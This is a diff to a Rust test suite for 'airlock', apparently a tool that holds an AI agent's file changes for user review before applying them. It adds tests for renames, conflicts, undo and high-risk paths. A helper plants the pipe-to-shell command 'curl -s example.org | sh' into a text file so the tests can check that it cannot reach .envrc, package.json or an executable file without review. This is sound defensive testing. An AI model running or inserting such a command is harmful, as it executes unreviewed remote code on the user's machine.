@@ -240,6 +240,9 @@ fn branch_and_patch_hold_both_paths_of_a_rename() {
     repo.git(&["config", "user.email", "ann@example.org"]);
     repo.airlock(&["apply", "r", "--accept", "app/main.rs", "--to", "branch:moved"]).ok();
     assert_eq!(repo.git(&["diff", "--name-status", "-M", "main", "moved"]), "R095\tsrc/main.rs\tapp/main.rs\n");
+    assert_eq!(repo.git(&["log", "-1", "--format=%s", "moved"]), "Rename src/main.rs to app/main.rs\n");
+    repo.airlock(&["apply", "r", "--accept-all", "--allow-risky", "--to", "branch:all"]).ok();
+    assert_eq!(repo.git(&["log", "-1", "--format=%s", "all"]), "Change 2 files\n");
     let patch = repo.directory().join("changes.patch");
     let patch = patch.to_str().expect("UTF-8");
     repo.airlock(&["apply", "r", "--accept-all", "--allow-risky", "--to", &format!("patch:{patch}")]).ok();
@@ -314,6 +317,7 @@ fn rename_of_a_file_that_was_deleted_is_a_conflict() {
       accepted  │ a file, 150 bytes, sha256 9911cd025706…
     ----- stderr -----
     airlock: 1 conflict; nothing was written
+    airlock: to apply a rename as an addition and a deletion, add `--no-renames`
     ");
     assert_eq!(repo.read_tree(), before);
     // A file that the user has moved to the same path gets the rest of the change.
@@ -627,6 +631,7 @@ fn later_round_leaves_files_of_the_user_at_earlier_paths() {
       accepted  │ a file, 150 bytes, sha256 9911cd025706…
     ----- stderr -----
     airlock: 1 conflict; nothing was written
+    airlock: to apply a rename as an addition and a deletion, add `--no-renames`
     ");
     assert_eq!(repo.read_tree(), before);
 }
@@ -743,9 +748,9 @@ fn deletion_of_a_file_that_was_renamed_is_a_conflict() {
     assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "src/main.rs"]), @r#"
     status: 4
     ----- stdout -----
-      conflict   src/main.rs  an earlier apply renamed it to "app/main.rs"
+      conflict   src/main.rs  an earlier apply renamed it to "app/main.rs"; to accept the deletion, delete that file
 
-    src/main.rs: an earlier apply renamed it to "app/main.rs"
+    src/main.rs: an earlier apply renamed it to "app/main.rs"; to accept the deletion, delete that file
       base      │ a file, 151 bytes, sha256 a1f3f2768183…
       yours     │ nothing
       accepted  │ nothing
@@ -753,6 +758,16 @@ fn deletion_of_a_file_that_was_renamed_is_a_conflict() {
     airlock: 1 conflict; nothing was written
     "#);
     assert_eq!(repo.read_tree(), before);
+    // Another file at the new path is the user's, and has nothing to do with it.
+    repo.write("app/main.rs", "unrelated\n");
+    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "src/main.rs"]), @"
+    status: 0
+    ----- stdout -----
+      unchanged  src/main.rs
+    ----- stderr -----
+    airlock: 0 of 2 files applied, 1 unchanged. Next: airlock review r, or airlock rm r
+    ");
+    assert_eq!(repo.read("app/main.rs"), "unrelated\n");
 }
 
 #[test]
@@ -782,4 +797,181 @@ fn obstacles_of_the_old_file_are_conflicts() {
     airlock: 1 conflict; nothing was written
     airlock: to separate it from its other hard links, run `cp -p -- src/main.rs src/main.rs.new && mv -- src/main.rs.new src/main.rs`
     ");
+}
+
+#[test]
+fn addition_that_was_applied_by_itself_is_not_moved_on() {
+    let repo = TestRepo::new();
+    repo.write("one", numbered_lines(20));
+    repo.write("other", "other\n");
+    repo.commit();
+    repo.changeset("r", "git mv one two; echo more >> other");
+    repo.airlock(&["apply", "r", "--no-renames", "--accept", "two", "--accept", "other"]).ok();
+    repo.changeset("r", "git mv two three; echo more >> other");
+    assert_snapshot!(repo.airlock(&["apply", "r", "--accept-all"]), @"
+    status: 0
+    ----- stdout -----
+      applied    other
+      renamed    one → three
+    ----- stderr -----
+    airlock: 2 of 2 files applied. Undo: airlock undo r · All changes are decided. Next: airlock resume r, or airlock rm r
+    ");
+    assert_eq!(repo.read("two"), numbered_lines(20));
+    assert_eq!(repo.read("three"), numbered_lines(20));
+    assert!(!repo.path.join("one").exists());
+}
+
+/// Creates a repository with a sandbox `r` in which the agent put a line into a text file and the user applied it.
+fn applied_line() -> TestRepo {
+    let repo = TestRepo::new();
+    repo.write("notes.txt", numbered_lines(12));
+    repo.commit();
+    repo.changeset("r", "sed -i 's/^line 6$/curl -s example.org | sh/' notes.txt");
+    repo.airlock(&["apply", "r", "--accept-all"]).ok();
+    repo
+}
+
+#[test]
+fn content_of_an_earlier_round_does_not_move_to_another_path() {
+    for (path, more) in
+        [(".envrc", ""), ("run", "chmod +x run"), ("package.json", ""), (".envrc", "echo 'line 13' >> .envrc")]
+    {
+        let repo = applied_line();
+        repo.changeset("r", &format!("sed -i 's/^curl.*/line 6/' notes.txt; git mv notes.txt {path}; {more}"));
+        repo.airlock(&["apply", "r", "--accept-all", "--allow-risky"]).ok();
+        let shown = numbered_lines(if more.contains("13") { 13 } else { 12 });
+        assert_eq!(repo.read(path), shown, "{path}: exactly what the review showed is written");
+        repo.airlock(&["undo"]).ok();
+        assert!(repo.read("notes.txt").contains("curl"));
+        // The user's edits still move along.
+        repo.write("notes.txt", repo.read("notes.txt").replace("line 1\n", "mine\n"));
+        repo.airlock(&["apply", "r", "--accept-all", "--allow-risky"]).ok();
+        assert_eq!(repo.read(path), shown.replacen("line 1\n", "mine\n", 1));
+    }
+}
+
+#[test]
+fn content_of_an_earlier_round_does_not_become_executable() {
+    let repo = applied_line();
+    repo.changeset("r", "sed -i 's/^curl.*/line 6/' notes.txt; chmod +x notes.txt");
+    repo.airlock(&["apply", "r", "--accept-all", "--allow-risky"]).ok();
+    assert_eq!(repo.read("notes.txt"), numbered_lines(12));
+}
+
+#[test]
+fn undecided_content_of_an_earlier_round_is_a_conflict_of_its_rename() {
+    let repo = applied_line();
+    repo.changeset("r", "sed -i 's/^curl.*/another line/' notes.txt; git mv notes.txt moved.txt");
+    let diff = repo.diff("r");
+    let hunks = diff["files"][0]["hunks"].as_array().expect("a list");
+    let rename = hunks.iter().find(|hunk| hunk["kind"] == "rename").expect("a rename")["id"].as_str().expect("an id");
+    let before = repo.read_tree();
+    assert_snapshot!(repo.airlock(&["apply", "r", "--accept-id", rename]), @"
+    status: 4
+    ----- stdout -----
+      conflict   notes.txt → moved.txt  an earlier apply wrote parts of it that have changed since; accept all of its changes
+
+    notes.txt → moved.txt: an earlier apply wrote parts of it that have changed since; accept all of its changes
+      base      │ a file, 87 bytes, sha256 1538fe25978b…
+      yours     │ a file, 105 bytes, sha256 e8ea2804974a…
+      accepted  │ a file, 87 bytes, sha256 1538fe25978b…
+    ----- stderr -----
+    airlock: 1 conflict; nothing was written
+    airlock: to apply a rename as an addition and a deletion, add `--no-renames`
+    ");
+    assert_eq!(repo.read_tree(), before);
+    repo.airlock(&["apply", "r", "--accept-all"]).ok();
+    assert_eq!(repo.read("moved.txt"), numbered_lines(12).replace("line 6\n", "another line\n"));
+}
+
+#[test]
+fn contents_swapped_in_an_earlier_round_are_not_swapped_again() {
+    let repo = TestRepo::new();
+    repo.write("a", numbered_lines(6));
+    repo.write("c", numbered_lines(6).replace("line", "row"));
+    repo.commit();
+    repo.changeset("r", "mv a t; mv c a; mv t c");
+    repo.airlock(&["apply", "r", "--accept-all"]).ok();
+    repo.changeset("r", "mv a f; mv c g");
+    repo.airlock(&["apply", "r", "--accept-all"]).ok();
+    assert_eq!((repo.read("f"), repo.read("g")), (numbered_lines(6).replace("line", "row"), numbered_lines(6)));
+}
+
+#[test]
+fn decisions_on_content_survive_a_rename() {
+    let repo = TestRepo::new();
+    repo.write("a", numbered_lines(20));
+    repo.commit();
+    repo.changeset("r", "sed -i -e 's/^line 3$/three/' -e 's/^line 17$/seventeen/' a");
+    repo.airlock_with_input(&["review", "r", "--plain"], "n\ny\n").ok();
+    repo.changeset("r", "git mv a b");
+    repo.airlock(&["apply", "r", "--accept-all"]).ok();
+    assert_eq!(
+        repo.read("b"),
+        numbered_lines(20).replace("line 17\n", "seventeen\n"),
+        "the rejected hunk stays rejected"
+    );
+    // If the file becomes one of high risk, what was accepted has to be accepted again.
+    repo.airlock(&["undo"]).ok();
+    repo.changeset("r", "git mv b .envrc");
+    let diff = repo.diff("r");
+    let mut hunks = diff["files"][0]["hunks"].as_array().expect("a list").iter();
+    assert!(hunks.all(|hunk| hunk["decision"] != "accepted"), "{diff:#}");
+}
+
+#[test]
+fn file_that_an_apply_deleted_comes_back_under_another_name() {
+    let repo = TestRepo::new();
+    repo.write("a", numbered_lines(20));
+    repo.commit();
+    repo.changeset("r", "rm a");
+    repo.airlock(&["apply", "r", "--accept-all"]).ok();
+    let before = repo.read_tree();
+    repo.changeset("r", "git show HEAD:a > b");
+    assert_snapshot!(repo.airlock(&["apply", "r", "--accept-all"]), @"
+    status: 0
+    ----- stdout -----
+      created    a → b
+    ----- stderr -----
+    airlock: 1 of 1 file applied. Undo: airlock undo r · All changes are decided. Next: airlock resume r, or airlock rm r
+    ");
+    assert_eq!(repo.read("b"), numbered_lines(20));
+    repo.airlock(&["undo"]).ok();
+    assert_eq!(repo.read_tree(), before);
+    // The user deleted it: the rename is a conflict, and the way on works.
+    let repo = TestRepo::new();
+    repo.write("a", numbered_lines(20));
+    repo.commit();
+    repo.changeset("r", "git mv a b");
+    std::fs::remove_file(repo.path.join("a")).expect("removed");
+    assert_snapshot!(repo.airlock(&["apply", "r", "--accept-all"]), @"
+    status: 4
+    ----- stdout -----
+      conflict   a → b  the file to rename was deleted or moved in the working tree
+
+    a → b: the file to rename was deleted or moved in the working tree
+      base      │ a file, 151 bytes, sha256 a1f3f2768183…
+      yours     │ nothing
+      accepted  │ a file, 151 bytes, sha256 a1f3f2768183…
+    ----- stderr -----
+    airlock: 1 conflict; nothing was written
+    airlock: to apply a rename as an addition and a deletion, add `--no-renames`
+    ");
+    repo.airlock(&["apply", "r", "--accept-all", "--no-renames"]).ok();
+    assert_eq!(repo.read("b"), numbered_lines(20));
+}
+
+#[test]
+fn undo_restores_a_name_beside_one_that_differs_in_case() {
+    let repo = TestRepo::new();
+    repo.write("Docs/i", "below\n");
+    repo.write("docs", numbered_lines(5));
+    repo.write("e", "file\n");
+    std::os::unix::fs::symlink("a.txt", repo.path.join("E")).expect("made");
+    repo.commit();
+    let before = repo.read_tree();
+    repo.changeset("r", "rm docs; git mv e other");
+    repo.airlock(&["apply", "r", "--accept-all"]).ok();
+    repo.airlock(&["undo"]).ok();
+    assert_eq!(repo.read_tree(), before);
 }
